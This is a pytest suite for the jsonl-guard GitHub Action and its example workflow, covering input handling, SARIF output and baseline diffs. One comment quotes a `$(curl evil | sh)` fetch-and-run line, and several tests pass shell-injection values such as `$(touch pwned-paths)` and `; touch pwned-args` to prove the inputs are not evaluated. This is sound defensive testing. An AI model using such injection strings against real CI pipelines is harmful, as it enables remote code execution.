"""The GitHub Action (action.yml) and the example workflow that uses it.

Static checks parse the YAML; the behaviour tests run the action's check step the
way the runner would (`bash --noprofile --norc -eo pipefail`, inputs through `env:`,
GITHUB_OUTPUT and GITHUB_STEP_SUMMARY files), with the jsonl-guard installed in this
environment standing in for the action's setup-python and pip install steps.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sysconfig
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from helpers import EXAMPLES, ROOT, git

ACTION = ROOT / "action.yml"
WORKFLOW = ROOT / "examples" / "github-workflow.yml"
INPUT_EXPRESSION = re.compile(r"^\$\{\{\s*inputs\.([A-Za-z0-9_-]+)\s*\}\}$")
GITHUB_EXPRESSION = re.compile(r"^\$\{\{\s*github\.([A-Za-z0-9_]+)\s*\}\}$")
# A major tag (v6), a full version (v6.1.0) or a commit sha.
PINNED = re.compile(r"@(v\d+(\.\d+){0,2}|[0-9a-f]{40})$")
BAD_LINES = range(3, 24, 2)  # examples/README.md: the planted defects of support-bad.jsonl


def _load(path: Path) -> dict[str, Any]:
    document = yaml.safe_load(path.read_text("utf-8"))
    assert isinstance(document, dict)
    return document


def _steps() -> list[dict[str, Any]]:
    steps = _load(ACTION)["runs"]["steps"]
    assert isinstance(steps, list)
    return steps


def _step(steps: list[dict[str, Any]], action: str) -> dict[str, Any]:
    (step,) = [s for s in steps if str(s.get("uses", "")).startswith(f"{action}@")]
    return step


def _workflow_steps() -> list[dict[str, Any]]:
    jobs = _load(WORKFLOW)["jobs"]
    return [step for job in jobs.values() for step in job["steps"]]


# --- action.yml, statically ---------------------------------------------------------


def test_action_is_composite_with_metadata():
    action = _load(ACTION)
    assert action["runs"]["using"] == "composite"
    assert action["name"] and action["description"]
    assert set(action["branding"]) == {"icon", "color"}


def test_action_inputs_and_defaults():
    inputs = _load(ACTION)["inputs"]
    defaults = {name: spec.get("default") for name, spec in inputs.items()}
    assert defaults == {
        "paths": ".",
        "model": "",
        "max-cost": "",
        "args": "",
        "sarif": "jsonl-guard.sarif",
        "python-version": "3.12",
        "baseline": "${{ github.base_ref }}",  # the pull request's base branch
        "fail-on": "",
        "max-cost-increase": "",
        "max-token-growth": "",
    }
    assert all(spec.get("description") for spec in inputs.values())
    assert not any(spec.get("required") for spec in inputs.values())


def test_run_scripts_take_inputs_only_through_env():
    run_steps = [step for step in _steps() if "run" in step]
    assert run_steps
    for step in run_steps:
        # An expression in `run:` is pasted into the script before bash sees it:
        # an input like `$(curl evil | sh)` would run. Inputs belong in `env:`.
        assert "${{" not in step["run"], step.get("name")
        assert step["shell"] == "bash"  # composite steps must name their shell
        for name in step.get("env", {}):
            assert f"${name}" in step["run"] or f"${{{name}}}" in step["run"], name


def test_every_input_is_used():
    action = _load(ACTION)
    used = json.dumps([{k: v for k, v in s.items() if k in ("env", "with")} for s in _steps()])
    for name in action["inputs"]:
        assert f"inputs.{name} " in used or f"inputs.{name}}}" in used, name


def test_setup_python_is_pinned_and_gets_the_python_version_input():
    setup = _step(_steps(), "actions/setup-python")
    assert PINNED.search(setup["uses"]), setup["uses"]
    assert INPUT_EXPRESSION.match(setup["with"]["python-version"]).group(1) == "python-version"


def test_action_installs_its_own_checkout():
    install = next(s for s in _steps() if "pip install" in s.get("run", ""))
    assert '"$GITHUB_ACTION_PATH"' in install["run"]


def test_sarif_file_output_comes_from_the_check_step():
    action = _load(ACTION)
    value = action["outputs"]["sarif-file"]["value"]
    assert re.fullmatch(r"\$\{\{\s*steps\.check\.outputs\.sarif-file\s*\}\}", value)
    check = next(s for s in _steps() if s.get("id") == "check")
    assert "sarif-file=" in check["run"] and "$GITHUB_OUTPUT" in check["run"]


# --- the example workflow -------------------------------------------------------------


def test_workflow_runs_on_pull_requests_touching_jsonl():
    workflow = _load(WORKFLOW)
    triggers = workflow.get("on", workflow.get(True))  # YAML 1.1 reads a bare `on` as true
    assert set(triggers) == {"pull_request"}
    assert triggers["pull_request"]["paths"] == ["**/*.jsonl"]


def test_workflow_permissions_are_minimal():
    workflow = _load(WORKFLOW)
    assert workflow["permissions"] == {"contents": "read", "security-events": "write"}
    for job in workflow["jobs"].values():
        assert "permissions" not in job or job["permissions"] == workflow["permissions"]


def test_workflow_uses_the_action_then_uploads_sarif_always():
    steps = _workflow_steps()
    names = [str(step.get("uses", "")).split("@")[0] for step in steps]
    assert names.index("jsonl-guard/jsonl-guard") < names.index("github/codeql-action/upload-sarif")
    for step in steps:
        if "uses" in step:
            assert PINNED.search(step["uses"]), step["uses"]
    guard = _step(steps, "jsonl-guard/jsonl-guard")
    assert set(guard.get("with", {})) <= set(_load(ACTION)["inputs"])
    upload = _step(steps, "github/codeql-action/upload-sarif")
    assert "always()" in upload["if"]  # the check fails exactly when there is news
    assert f"steps.{guard['id']}.outputs.sarif-file" in upload["with"]["sarif_file"]


# --- the check step, executed -----------------------------------------------------------


@dataclass
class StepRun:
    returncode: int
    stdout: str
    stderr: str
    outputs: dict[str, str]
    summary: str
    workspace: Path


def _jsonl_guard_bin_dir() -> Path:
    scripts = Path(sysconfig.get_path("scripts"))
    if (scripts / "jsonl-guard").exists():
        return scripts
    found = shutil.which("jsonl-guard")
    if found is None:
        pytest.fail("the jsonl-guard console script is not installed (pip install -e .)")
    return Path(found).parent


def _run_check_step(workspace: Path, **given: str) -> StepRun:
    """Run the check step's script as the runner would, with these inputs (else defaults)."""
    return _run_step(workspace, "check", {}, **given)


def _default(spec: dict[str, Any], github: dict[str, str]) -> str:
    """An input's default; ``${{ github.NAME }}`` from the emulated ``github`` context."""
    default = str(spec.get("default", ""))
    match = GITHUB_EXPRESSION.match(default)
    return github.get(match.group(1), "") if match else default


def _run_step(workspace: Path, step_id: str, github: dict[str, str], **given: str) -> StepRun:
    """Run the step ``step_id``'s script as the runner would, with these inputs (else
    defaults, evaluated in the ``github`` context)."""
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("bash is not installed")
    action = _load(ACTION)
    inputs = {name: _default(spec, github) for name, spec in action["inputs"].items()}
    assert set(given) <= set(inputs), set(given) - set(inputs)
    inputs.update(given)
    step = next(s for s in _steps() if s.get("id") == step_id)

    runner = workspace.parent / f"{workspace.name}-runner"
    runner.mkdir(exist_ok=True)
    output_file, summary_file = runner / "output", runner / "summary.md"
    output_file.touch()
    summary_file.touch()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "INPUT_"))}
    env.update(
        PATH=f"{_jsonl_guard_bin_dir()}{os.pathsep}{env.get('PATH', '')}",
        CI="true",
        GITHUB_ACTIONS="true",
        GITHUB_ACTION_PATH=str(ROOT),
        GITHUB_WORKSPACE=str(workspace),
        GITHUB_OUTPUT=str(output_file),
        GITHUB_STEP_SUMMARY=str(summary_file),
        GITHUB_PATH=str(runner / "path"),
        RUNNER_TEMP=str(runner),
    )
    env.update({f"INPUT_{name.upper()}": value for name, value in inputs.items()})
    for name, expression in step["env"].items():
        match = INPUT_EXPRESSION.match(expression)
        assert match, f"{name}: only ${{{{ inputs.NAME }}}} is emulated, got {expression!r}"
        env[name] = inputs[match.group(1)]
    script = runner / "check.sh"
    script.write_text(step["run"], "utf-8")

    result = subprocess.run(
        [bash, "--noprofile", "--norc", "-eo", "pipefail", str(script)],
        cwd=workspace,
        env=env,
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )
    outputs = dict(
        line.split("=", 1) for line in output_file.read_text("utf-8").splitlines() if line
    )
    return StepRun(
        result.returncode,
        result.stdout,
        result.stderr,
        outputs,
        summary_file.read_text("utf-8"),
        workspace,
    )


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    workspace = tmp_path / "workspace"
    (workspace / "data").mkdir(parents=True)
    shutil.copy(EXAMPLES / "support-bad.jsonl", workspace / "bad.jsonl")
    shutil.copy(EXAMPLES / "support-good.jsonl", workspace / "good.jsonl")
    shutil.copy(EXAMPLES / "support-good.jsonl", workspace / "data" / "more.jsonl")
    return workspace


def test_check_step_fails_on_bad_data_with_annotations_sarif_and_summary(workspace: Path):
    run = _run_check_step(workspace, paths="bad.jsonl")
    assert run.returncode == 1, run.stdout + run.stderr
    for line in BAD_LINES:  # a defect is an error, or a warning (line 19's unknown key)
        assert re.search(rf"^::(error|warning) file=bad.jsonl,line={line},", run.stdout, re.M), line

    assert run.outputs == {"sarif-file": "jsonl-guard.sarif"}
    sarif = json.loads((workspace / "jsonl-guard.sarif").read_text("utf-8"))
    assert sarif["version"] == "2.1.0"
    results = sarif["runs"][0]["results"]
    lines = {
        r["locations"][0]["physicalLocation"].get("region", {}).get("startLine")
        for r in results
        if r["level"] in ("error", "warning")
    }
    assert set(BAD_LINES) <= lines
    uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in results}
    assert uris == {"bad.jsonl"}

    # The summary comes from the first pass only; the SARIF pass must not repeat it.
    assert run.summary.startswith("## jsonl-guard")
    assert run.summary.count("## jsonl-guard") == 1


def test_check_step_passes_model_max_cost_and_several_paths(workspace: Path):
    run = _run_check_step(
        workspace,
        paths="good.jsonl\n  data/\n",  # newline- and space-separated, a directory too
        model="gpt-3.5-turbo-0125",
        **{"max-cost": "0.01", "sarif": ""},
    )
    assert run.returncode == 1, run.stdout + run.stderr
    assert "title=JG501" in run.stdout and "budget of $0.01" in run.stdout, run.stdout
    # --max-cost bounds the run: one finding naming every training file's share.
    assert "file=good.jsonl," in run.stdout and "data/more.jsonl $" in run.stdout
    assert "<code>gpt-3&#46;5-turbo-0125</code>" in run.summary  # inert Markdown
    assert run.outputs == {"sarif-file": ""}
    assert not list(workspace.glob("*.sarif"))


def test_check_step_extra_args_pass_through_but_cannot_change_the_format(workspace: Path):
    run = _run_check_step(workspace, paths="bad.jsonl", args="--format json\n--ignore JG1,JG2")
    assert run.returncode == 0, run.stdout + run.stderr
    assert run.stdout.startswith("::warning file=bad.jsonl,title=JG302"), run.stdout
    assert "::error" not in run.stdout
    assert (workspace / "jsonl-guard.sarif").exists()


def test_check_step_does_not_evaluate_inputs(workspace: Path):
    run = _run_check_step(
        workspace,
        paths="good.jsonl $(touch pwned-paths) `touch pwned-backticks`",
        model='x"; touch pwned-model; echo "',
        args="; touch pwned-args",
        sarif="out.sarif",
    )
    assert run.returncode == 2, run.stdout + run.stderr
    assert "unknown model 'x\"; touch pwned-model; echo \"'" in run.stderr
    assert not list(workspace.rglob("pwned*")), list(workspace.rglob("pwned*"))
    assert not list(Path.cwd().glob("pwned*"))


def test_check_step_rejects_empty_paths(workspace: Path):
    run = _run_check_step(workspace, paths="  \n ")
    assert run.returncode == 2
    assert "::error title=jsonl-guard::the paths input is empty" in run.stdout


# --- the diff step (baseline), executed in a real git repository ---------------------------


@pytest.fixture
def pull_request(workspace: Path) -> Path:
    """The workspace as a checkout of a pull request: ``main`` holds good.jsonl and
    data/more.jsonl; the change adds bad.jsonl's examples to good.jsonl (new errors, more
    tokens and cost), keeps data/more.jsonl and adds data/new.jsonl."""
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    (workspace / "bad.jsonl").unlink()
    git(workspace, "init", "--quiet", "--initial-branch=main")
    git(workspace, "add", ".")
    git(workspace, "commit", "--quiet", "-m", "base")
    git(workspace, "checkout", "--quiet", "-b", "change")
    good = workspace / "good.jsonl"
    good.write_bytes(good.read_bytes() + (EXAMPLES / "support-bad.jsonl").read_bytes())
    shutil.copy(EXAMPLES / "support-good.jsonl", workspace / "data" / "new.jsonl")
    return workspace


def _diff_step(workspace: Path, base_ref: str = "main", **given: str) -> StepRun:
    given.setdefault("paths", "good.jsonl data/")
    return _run_step(workspace, "diff", {"base_ref": base_ref}, **given)


def test_diff_step_writes_what_changed_to_the_summary(pull_request: Path):
    # The baseline input defaults to github.base_ref; these gates pass.
    run = _diff_step(pull_request, **{"max-token-growth": "200%", "max-cost-increase": "$1"})
    assert run.returncode == 0, run.stdout + run.stderr
    assert run.summary.startswith("## jsonl-guard diff: ✅ gates passed\n")
    assert run.summary in run.stdout  # the log shows it too
    rows = {line.split(" | ")[0]: line for line in run.summary.splitlines() if "<code>" in line}
    # One of bad.jsonl's 24 lines is not JSON: no hash, so 23 added, 24 more examples.
    assert (
        "| changed | 60 → 84 (+24, +40.0%); 23 added, 0 removed"
        in rows["| <code>good&#46;jsonl</code>"]
    )
    assert "| new file | 0 → 60" in rows["| <code>data/new&#46;jsonl</code>"]
    assert "| no change |" in rows["| <code>data/more&#46;jsonl</code>"]
    assert "- ✅ `--max-token-growth 200%`: tokens 29,888 → 49,653, +66.1%: within 200%" in (
        run.summary
    )
    assert "- ✅ `--max-cost-increase $1.00`: estimated cost &#36;" in run.summary
    worktrees = subprocess.run(
        ["git", "worktree", "list"], cwd=pull_request, capture_output=True, text=True, check=True
    )
    assert "jsonl-guard-baseline" not in worktrees.stdout  # removed when the step ends


def test_diff_step_gates_trip_and_say_by_how_much(pull_request: Path):
    # actions/checkout with fetch-depth: 0 leaves the base as origin/<branch> only.
    git(pull_request, "update-ref", "refs/remotes/origin/release", "main")
    git(pull_request, "branch", "--quiet", "-D", "main")
    gates = {"fail-on": "new-errors", "max-token-growth": "50%", "max-cost-increase": "10%"}
    run = _diff_step(pull_request, base_ref="release", **gates)
    assert run.returncode == 1, run.stdout + run.stderr
    assert run.summary.startswith("## jsonl-guard diff: ❌ 3 gate(s) tripped\n")
    for words in (
        "- ❌ `--fail-on new-errors`: 10 new error finding(s): JG110 +1, ",
        "- ❌ `--max-token-growth 50%`: tokens 29,888 → 49,653, +66.1%: 16.1 points over",
        "- ❌ `--max-cost-increase 10%`: estimated cost &#36;",
    ):
        assert words in run.summary, words


def test_diff_step_without_the_baseline_ref_says_to_fetch_it(pull_request: Path):
    run = _diff_step(pull_request, base_ref="gone")
    assert run.returncode == 2
    assert "::error title=jsonl-guard::the baseline ref is not in the checkout" in run.stdout
    assert "fetch-depth: 0" in run.stdout and "baseline gone not found" in run.stderr
    assert run.summary == ""


def test_diff_step_is_skipped_outside_pull_requests(pull_request: Path):
    run = _diff_step(pull_request, base_ref="")  # a push: github.base_ref is empty
    assert run.returncode == 0 and run.summary == ""
    assert "no diff" in run.stdout
    step = next(s for s in _steps() if s.get("id") == "diff")
    assert "inputs.baseline != ''" in step["if"] and "!cancelled()" in step["if"]


def test_diff_step_does_not_evaluate_inputs(pull_request: Path):
    run = _diff_step(
        pull_request,
        base_ref="main",
        **{"max-token-growth": "$(touch pwned-gate)%", "baseline": "main;touch pwned-ref"},
    )
    assert run.returncode == 2
    assert not list(pull_request.rglob("pwned*"))


def test_workflow_fetches_history_and_uploads_an_html_report():
    steps = _workflow_steps()
    checkout = _step(steps, "actions/checkout")
    assert checkout["with"]["fetch-depth"] == 0  # the base branch, for the baseline diff
    guard = _step(steps, "jsonl-guard/jsonl-guard")
    assert {"fail-on", "max-cost-increase"} <= set(guard["with"])
    html = next(s for s in steps if "--format html" in s.get("run", ""))
    assert "--output jsonl-guard-report.html" in html["run"] and "always()" in html["if"]
    upload = _step(steps, "actions/upload-artifact")
    assert upload["with"]["path"] == "jsonl-guard-report.html" and "always()" in upload["if"]
